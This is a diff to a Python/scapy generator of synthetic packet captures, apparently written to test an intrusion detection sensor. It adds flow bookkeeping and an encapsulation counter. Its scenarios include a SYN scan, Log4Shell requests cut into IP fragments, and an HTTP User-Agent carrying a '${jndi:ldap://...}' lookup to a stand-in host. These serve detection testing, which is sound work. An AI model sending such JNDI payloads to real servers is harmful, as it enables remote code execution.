@@ -27,6 +27,7 @@ Run with Debian's /usr/bin/python3 (it has scapy).
 import argparse
 import base64
 import hashlib
+import ipaddress
 import json
 import os
 import random
@@ -147,6 +148,11 @@ class Capture:
         self.t = start
         self.rng = rng
         self.frames = []
+        self.flows = set()  # (tenant, proto, endpoints): the flows a sensor must create for this capture
+
+    def flow(self, tenant, proto, a, aport, b, bport):
+        ends = tuple(sorted([(ipaddress.ip_address(a).packed, aport), (ipaddress.ip_address(b).packed, bport)]))
+        self.flows.add((tenant, proto, ends))
 
     def tick(self, lo=0.0002, hi=0.002):
         self.t += self.rng.uniform(lo, hi)
@@ -196,6 +202,7 @@ class TcpSession:
         self.sseq = cap.rng.randrange(1 << 32)
         self.syn_window = syn_window
         self.fh = _fhash(net.tenant, cli, srv, sport, dport)
+        cap.flow(net.tenant, 6, cli, sport, srv, dport)
 
     def _send(self, from_client, flags, payload=b"", dt=None, options=None, window=None):
         c = self.cap
@@ -352,6 +359,7 @@ def ssh_blob(rng, n):
 
 def dns_query(cap, net, cli, srv, sport, qname, qtype, qid, answer=None, rcode=0):
     fh = _fhash(net.tenant, cli, srv, sport, 53)
+    cap.flow(net.tenant, 17, cli, sport, srv, 53)
     q = ip_layer(cli, srv, cap.rng) / UDP(sport=sport, dport=53) / DNS(
         id=qid, rd=1, qd=DNSQR(qname=qname, qtype=qtype))
     cap.emit(net.frame(q, True, fh))
@@ -428,6 +436,7 @@ def scen_scan(cap, ports):
     sport = 61234  # nmap keeps one source port for a SYN scan
     for dport in probe_ports:
         fh = _fhash("hooli", scanner, target, sport, dport)
+        cap.flow("hooli", 6, scanner, sport, target, dport)
         seq = cap.rng.randrange(1 << 32)
         syn = ip_layer(scanner, target, cap.rng) / TCP(sport=sport, dport=dport, flags="S", seq=seq,
                                                         window=1024)
@@ -720,6 +729,7 @@ def scen_fragments(cap, ports):
     alerts.append(expect(9100201, "hooli", "2001:db8:bad::66", "fd00:50::80", 80, sport=sport, net=net,
                          note="IPv6 fragments cut inside ${jndi:"))
     return {"description": "Log4Shell request sent as IP fragments (IPv4 on VLAN 100, IPv6 by CIDR)",
+            "reassembled": 2,
             "fragments": {"ipv4": n4, "ipv6": n6}, "alerts": alerts}
 
 
@@ -861,6 +871,8 @@ def scen_malformed(cap, ports):
              IP(src="172.31.0.11", dst="172.31.0.12", id=99) / UDP(sport=50001, dport=4789, chksum=0) /
              Raw(b"\x08\x00\x00\x00"))
     cap.emit_raw(bytes(outer))
+    # Too short to be VXLAN, so it is an ordinary UDP datagram of an unassigned flow.
+    cap.flow("unassigned", 17, "172.31.0.11", 50001, "172.31.0.12", 4789)
     net = NETS["hooli"]
     sport = http_exchange(cap, net, ports, ATTACKER, "10.50.9.2",
                           http_get("/", "www.hooli.example", ua="${jndi:ldap://%s/after-malformed}" % JNDI_HOST), dt=0.5)
@@ -873,6 +885,25 @@ def scen_malformed(cap, ports):
             "malformed_frames": 10,
             "alerts": [expect(9100201, "hooli", ATTACKER, "10.50.9.2", 80, sport=sport, net=net,
                               note="processing continues after malformed frames")]}
+
+
+def count_encapsulations(frames):
+    """Frames per encapsulation, read back from the bytes: VLAN-tagged (one or two tags), VXLAN (UDP 4789
+    with a full 8-byte header, I flag set), GENEVE (UDP 6081), and IP datagrams completed from fragments."""
+    n = {"vlan": 0, "vxlan": 0, "geneve": 0, "frag_reassembled": 0}
+    for _, d in frames:
+        et = struct.unpack("!H", d[12:14])[0]
+        if et in (0x8100, 0x88A8):
+            n["vlan"] += 1
+        if et == 0x0800 and len(d) >= 14 + 20 + 8 and d[14 + 9] == 17:
+            ihl = (d[14] & 15) * 4
+            dport = struct.unpack("!H", d[14 + ihl + 2:14 + ihl + 4])[0]
+            body = d[14 + ihl + 8:]
+            if dport == 4789 and len(body) >= 8 and body[0] & 0x08:
+                n["vxlan"] += 1
+            elif dport == 6081 and len(body) >= 8:
+                n["geneve"] += 1
+    return n
 
 
 SCENARIOS = [
@@ -907,6 +938,9 @@ def generate(out, seed=SEED, only=None):
         entry.setdefault("requires", [])
         entry["packets"] = len(cap.frames)
         entry["bytes"] = sum(len(d) for _, d in cap.frames)
+        entry["flows"] = len(cap.flows)
+        entry["decoder"] = count_encapsulations(cap.frames)
+        entry["decoder"]["frag_reassembled"] = entry.pop("reassembled", 0)
         entry["first_ts"] = cap.frames[0][0]
         entry["last_ts"] = cap.frames[-1][0]
         merged.extend(cap.frames)
